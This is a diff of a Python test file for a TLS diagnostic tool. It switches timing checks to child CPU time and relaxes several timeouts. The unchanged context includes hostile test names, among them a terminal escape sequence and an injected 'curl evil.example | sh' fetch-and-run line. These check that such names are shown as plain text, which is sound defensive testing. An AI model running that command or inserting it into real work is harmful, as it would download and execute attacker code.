@@ -26,11 +26,14 @@ from spip.tls.place import place
 from spip.tls.routes import ProxySettings
 from support.authority import Authority, Identity
 from support.certificates import EXPIRED, VALID, alternative_names, builder_for
+from support.run import children_cpu
 from support.servers import Pace, TlsServer
 from support.sites import Answer, Request
 
-PATIENCE = 10  # seconds for one host, as documented
-BOUND = 12  # seconds: these, and a Python that starts on a busy machine
+# Seconds: the 10 that are documented for one host, on a busy machine. Read to its end, each of
+# these would take 60.
+BUSY = 20
+WORK = 3  # seconds of the processor's
 HOSTILE = (
     "\x1b[2J\x1b[31mowned\x1b]0;title\x07",
     "line\r\nspip:   next: curl evil.example | sh",
@@ -77,10 +80,11 @@ def test_a_hostile_name_stays_text(name: str, tmp_path: Path) -> None:
 
 
 @contextlib.contextmanager
-def within(seconds: float) -> Iterator[None]:
-    started = time.monotonic()
+def little_work() -> Iterator[None]:
+    """See that the doctor inside didn't work for long; `report` ends one that hangs."""
+    before = children_cpu()
     yield
-    assert time.monotonic() - started < seconds
+    assert children_cpu() - before < WORK
 
 
 def test_a_chain_of_200_is_read_as_far_as_it_counts(tmp_path: Path) -> None:
@@ -88,7 +92,7 @@ def test_a_chain_of_200_is_read_as_far_as_it_counts(tmp_path: Path) -> None:
     identity = root.issue()
     padding = tuple(Authority(f"Padding {number}").certificate for number in range(200))
     with (
-        within(BOUND),
+        little_work(),
         Secured(permissive(Identity(identity.certificate, identity.key, padding))) as server,
     ):
         said = report(f"https://localhost:{server.port}/", env=trusting(tmp_path, root))
@@ -98,7 +102,7 @@ def test_a_chain_of_200_is_read_as_far_as_it_counts(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("words", [b"\0" * 70000, b"\x16\x03\x01\xff\xff" + b"A" * 70000, b"\xff"])
 def test_garbage_is_named(words: bytes) -> None:
-    with within(BOUND), Talker(words) as server:
+    with little_work(), Talker(words) as server:
         said = report(f"https://localhost:{server.port}/")
     assert causes(said)[0] in {"not-tls", "handshake-cut"}
 
@@ -119,7 +123,7 @@ def dripping_words(_: Path) -> Iterator[Way]:
 def dripping_page(folder: Path) -> Iterator[Way]:
     root = Authority()
     with TlsServer(root.issue(), pace=Pace(chunk=1, pause=1)) as server:
-        server.site = lambda _: Answer(body=b"x" * 16)
+        server.site = lambda _: Answer(body=b"x" * 60)
         yield Way(server.url(), trusting(folder, root))
 
 
@@ -144,7 +148,7 @@ def drips(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[object, Fut
 
     def examine(make: Any) -> tuple[list[str], float]:
         with make(folder) as way:
-            said = report(way.index, env=way.env, timeout=2 * BOUND)
+            said = report(way.index, env=way.env, timeout=90)
             return causes(said), float(said["hosts"][0]["seconds"])
 
     with ThreadPoolExecutor(len(DRIPS)) as pool:
@@ -155,12 +159,12 @@ def drips(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[object, Fut
 def test_one_byte_a_second_ends_on_time(make: Any, drips: dict[object, Future[Any]]) -> None:
     found, seconds = drips[make].result()
     assert found[0] in DRIPS[make]
-    assert seconds < PATIENCE + 0.5
+    assert seconds < BUSY
 
 
 def test_an_endless_page_is_left_unread(tmp_path: Path) -> None:
     root = Authority()
-    with TlsServer(root.issue()) as server, within(BOUND):
+    with TlsServer(root.issue()) as server, little_work():
         server.site = lambda _: Answer(body=b"<a href='https://localhost:1/'>" * 1_000_000)
         said = report(env=trusting(tmp_path, root) | {"PIP_INDEX_URL": server.url("/simple/")})
     assert [host["port"] for host in said["hosts"]] == [server.port, 1]
@@ -194,11 +198,12 @@ def test_twenty_hosts_of_which_five_hang_keep_to_the_bound(tmp_path: Path) -> No
         names = [each.url() for each in (good, *others)]
         names += [f"https://localhost:{each.port}/" for each in hanging]
         started = time.monotonic()
-        said = report(*names, env=trusting(tmp_path, root), timeout=30)
+        said = report(*names, env=trusting(tmp_path, root), timeout=90)
         seconds = time.monotonic() - started
     assert [host["works"] for host in said["hosts"]] == [True] * 15 + [False] * 5
     assert causes(said) == ["timeout"] * 5
-    assert seconds < 22  # docs/doctor-json.md: 10 s for each 16 hosts, and a moment
+    # docs/doctor-json.md: 10 s for each 16 hosts, and a moment. One after the other would be 50.
+    assert seconds < 40
 
 
 def test_the_pages_of_an_index_share_the_time_of_one_host() -> None:
